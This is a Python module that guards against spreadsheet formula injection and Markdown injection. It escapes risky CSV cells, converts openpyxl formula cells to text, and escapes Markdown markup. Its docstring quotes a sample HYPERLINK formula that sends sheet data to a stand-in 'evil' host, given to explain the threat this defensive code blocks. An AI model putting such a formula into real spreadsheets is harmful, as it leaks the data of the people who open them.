"""Spreadsheet and Markdown cell safety (OWASP "CSV injection").

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return) as a formula: an organization named
``=HYPERLINK("http://evil/?"&A1,"click")`` would become a live link that leaks the sheet.

- :func:`csv_cell` prefixes such text with ``'`` (OWASP's recommendation), so it shows as
  written and is never run; plain numbers (``-3``, ``+2.5``) are left alone;
- :func:`text_cells` makes every cell of an openpyxl workbook that openpyxl would write as a
  formula a text cell instead (call it just before saving);
- :func:`md_text` escapes text for Markdown prose and tables: HTML tags, links, images,
  headings, emphasis and table pipes are shown as written, never rendered.
"""

from __future__ import annotations

import re
from typing import Any

__all__ = ["FORMULA_PREFIXES", "csv_cell", "csv_row", "md_text", "text_cells"]

#: first characters that make a spreadsheet cell a formula
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?")


def csv_cell(value: Any) -> Any:
    """``value`` safe for a CSV cell: text that a spreadsheet would run gets a ``'`` prefix, and
    a carriage return becomes a line feed (which the CSV writer quotes; a bare CR would end the
    row in some readers)."""
    if isinstance(value, str) and "\r" in value:
        value = value.replace("\r\n", "\n").replace("\r", "\n")
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        if _NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


def csv_row(values: Any) -> list[Any]:
    return [csv_cell(v) for v in values]


def text_cells(workbook: Any) -> int:
    """Turn every formula cell of ``workbook`` into a text cell; returns how many were."""
    changed = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str) and cell.value.startswith("=")
                ):
                    cell.data_type = "s"
                    changed += 1
    return changed


_MD_SPECIAL = re.compile(r"[\\`*_\[\]<>&|~]")
_SPACES = re.compile(r"[^\S ]+| {2,}")
_MD_ENTITIES = {"<": "&lt;", ">": "&gt;", "&": "&amp;"}
_MD_LINE_START = re.compile(r"^(#|[-+=](?![\d.])|\d+[.)](?=\s|$))")


def md_text(value: Any) -> str:
    """``value`` as Markdown text that renders as written, on one line: HTML, links, images,
    emphasis, code and table pipes are escaped, and so is a heading or list mark at the start."""
    text = _SPACES.sub(" ", str(value))
    text = _MD_SPECIAL.sub(lambda m: _MD_ENTITIES.get(m.group(0), "\\" + m.group(0)), text)
    return _MD_LINE_START.sub(_escape_mark, text)


def _escape_mark(match: re.Match[str]) -> str:
    mark = match.group(0)
    return mark[:-1] + "\\" + mark[-1] if mark[0].isdigit() else "\\" + mark
